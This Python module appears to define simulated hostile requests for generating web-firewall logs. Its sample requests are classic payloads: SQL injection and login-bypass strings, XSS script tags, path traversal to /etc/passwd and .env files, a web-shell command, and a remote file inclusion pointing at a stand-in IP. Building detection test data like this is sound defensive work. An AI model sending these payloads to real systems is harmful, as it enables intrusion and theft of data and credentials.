"""Every kind of hostile request that the simulated attackers know, with the vendor's names for it."""

from dataclasses import dataclass
from enum import StrEnum


class AttackKind(StrEnum):
    """What an attacker tries; the kinds are the header names of the vendor's log lines, and two oddities."""

    SQL_INJECTION = "sql_injection"
    CROSS_SITE_SCRIPTING = "cross_site_scripting"
    ILLEGAL_RESOURCE_ACCESS = "illegal_resource_access"
    BOT_ACCESS_CONTROL = "bot_access_control"
    DDOS = "ddos"
    BACKDOOR_PROTECT = "backdoor_protect"
    REMOTE_FILE_INCLUSION = "remote_file_inclusion"
    INCAP_RULE = "incap_rule"
    API_SPECIFICATION_VIOLATION = "api_specification_violation"
    ACCOUNT_TAKEOVER_PROTECTION = "account_takeover_protection"
    BAD_BOT = "bad_bot"
    BLOCKED_COUNTRY = "blocked_country"
    ACCEPTED_COUNTRY = "accepted_country"
    NEW_NAME = "new_name"
    MULTI_RULE = "multi_rule"


@dataclass(frozen=True, slots=True)
class RuleHit:
    """One triggered rule: attack type and attack id as the vendor numbers them, the rule's name, JSON details."""

    file_type: int
    permission: int
    rule_name: str = ""
    info: str = ""


@dataclass(frozen=True, slots=True)
class Bait:
    """What is sent. Query and body are as they travel, percent-encoded."""

    method: str
    path: str
    query: str = ""
    body: str = ""


@dataclass(frozen=True, slots=True)
class Attack:
    """name, severity: the header of the line. threat: id in the statistics. blocked_act: `act` when kept out."""

    name: str
    severity: int
    label: str
    baits: tuple[Bait, ...]
    rules: tuple[RuleHit, ...]
    threat: str = ""
    blocked_act: str = "REQ_BLOCKED_SECURITY"


_INVALID_PARAMETER = '[{"api_specification_violation_type":"INVALID_PARAM_NAME","parameter_name":"debug"}]'

ATTACKS: dict[AttackKind, Attack] = {
    AttackKind.SQL_INJECTION: Attack(
        name="SQL Injection",
        severity=0,
        label="SQLインジェクション",
        baits=(
            Bait("GET", "/products", "id=12%27%20OR%20%271%27%3D%271"),
            Bait("GET", "/search", "q=%27%20UNION%20SELECT%20name%2Cpass%20FROM%20members--"),
            Bait("POST", "/login", "", "user=admin%27--&password=x"),
        ),
        rules=(RuleHit(30037, 20, "SQL SELECT Expression"),),
        threat="api.threats.sql_injection",
    ),
    AttackKind.CROSS_SITE_SCRIPTING: Attack(
        name="Cross Site Scripting",
        severity=1,
        label="クロスサイトスクリプティング",
        baits=(
            Bait("GET", "/search", "q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
            Bait("POST", "/review", "", "text=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"),
        ),
        rules=(RuleHit(50033, 2, "Script tag"),),
        threat="api.threats.cross_site_scripting",
    ),
    AttackKind.ILLEGAL_RESOURCE_ACCESS: Attack(
        name="Illegal Resource Access",
        severity=3,
        label="不正なリソースへのアクセス",
        baits=(Bait("GET", "/..%2f..%2fetc%2fpasswd"), Bait("GET", "/.git/config"), Bait("GET", "/.env")),
        rules=(RuleHit(50044, 37, "High Risk Resources"),),
        threat="api.threats.illegal_resource_access",
    ),
    AttackKind.BOT_ACCESS_CONTROL: Attack(
        name="Bot Access Control",
        severity=4,
        label="ボットアクセス制御",
        baits=(Bait("GET", "/products", "page=99"),),
        rules=(RuleHit(12999, 1),),
        threat="api.threats.bot_access_control",
        blocked_act="REQ_CHALLENGE_CAPTCHA",
    ),
    AttackKind.DDOS: Attack(
        name="DDoS",
        severity=8,
        label="DDoS攻撃",
        baits=(Bait("GET", "/", "r=83921"), Bait("GET", "/search", "q=a")),
        rules=(RuleHit(90879, 0),),
        threat="api.threats.ddos",
        blocked_act="REQ_BLOCKED_DDOS",
    ),
    AttackKind.BACKDOOR_PROTECT: Attack(
        name="Backdoor Protect",
        severity=9,
        label="バックドア",
        baits=(Bait("POST", "/uploads/shell.php", "cmd=id"),),
        rules=(RuleHit(50037, 666, "Known web shell"),),
        threat="api.threats.backdoor",
    ),
    AttackKind.REMOTE_FILE_INCLUSION: Attack(
        name="Remote File Inclusion",
        severity=10,
        label="リモートファイルインクルージョン",
        baits=(Bait("GET", "/index.php", "page=http%3A%2F%2F192.0.2.200%2Fx.txt%3F"),),
        rules=(RuleHit(50999, 2, "Remote URL in parameter"),),
        threat="api.threats.remote_file_inclusion",
    ),
    AttackKind.INCAP_RULE: Attack(
        name="IncapRules(Block scanner paths)",
        severity=11,
        label="個別ルール (IncapRules)",
        baits=(Bait("GET", "/wp-admin/setup-config.php"), Bait("GET", "/phpmyadmin/")),
        rules=(RuleHit(900111, 0, "Block scanner paths"),),
        threat="api.threats.customRule",
    ),
    AttackKind.API_SPECIFICATION_VIOLATION: Attack(
        name="API Specification Violation",
        severity=12,
        label="API仕様違反",
        baits=(Bait("GET", "/api/items", "debug=1"),),
        rules=(RuleHit(1001, 1, "Invalid parameter name", _INVALID_PARAMETER),),
    ),
    AttackKind.ACCOUNT_TAKEOVER_PROTECTION: Attack(
        name="Account Takeover Protection",
        severity=13,
        label="アカウント乗っ取り",
        baits=(Bait("POST", "/login", "", "user=hanako%40example.jp&password=Spring2024"),),
        rules=(RuleHit(1001, 0, "Leaked credentials"),),
    ),
    AttackKind.BAD_BOT: Attack(
        name="Bad Bot",
        severity=14,
        label="悪性ボット",
        baits=(Bait("GET", "/products/stock.json", "all=true"),),
        rules=(RuleHit(12999, 2, "Scraper"),),
        threat="api.threats.bot_access_control",
        blocked_act="REQ_BLOCKED_COOKIELESS_SESSION",
    ),
    AttackKind.BLOCKED_COUNTRY: Attack(
        name="Blocked country",
        severity=-1,
        label="拒否国からのアクセス",
        baits=(Bait("GET", "/"),),
        rules=(),
        blocked_act="REQ_BLOCKED_VISITOR",
    ),
    AttackKind.ACCEPTED_COUNTRY: Attack(
        name="Accepted country",
        severity=-1,
        label="許可国からのアクセス",
        baits=(Bait("GET", "/"),),
        rules=(),
        blocked_act="REQ_PASSED",
    ),
    AttackKind.NEW_NAME: Attack(
        name="Client-Side Skimming",
        severity=15,
        label="未知の新しい名称",
        baits=(Bait("POST", "/checkout", "step=pay", "card=XXXX"),),
        rules=(RuleHit(77001, 3, "New protection"),),
    ),
    AttackKind.MULTI_RULE: Attack(
        name="SQL Injection",
        severity=0,
        label="複数ルールの検知",
        baits=(Bait("GET", "/products", "id=1%20UNION%20SELECT%201%2C2&debug=1"),),
        rules=(
            RuleHit(30037, 2),
            RuleHit(1001, 1, "High Risk SQL Expressions"),
            RuleHit(30037, 20, "", _INVALID_PARAMETER),
            RuleHit(50044, 37, "SQL SELECT Expression"),
        ),
        threat="api.threats.sql_injection",
    ),
}
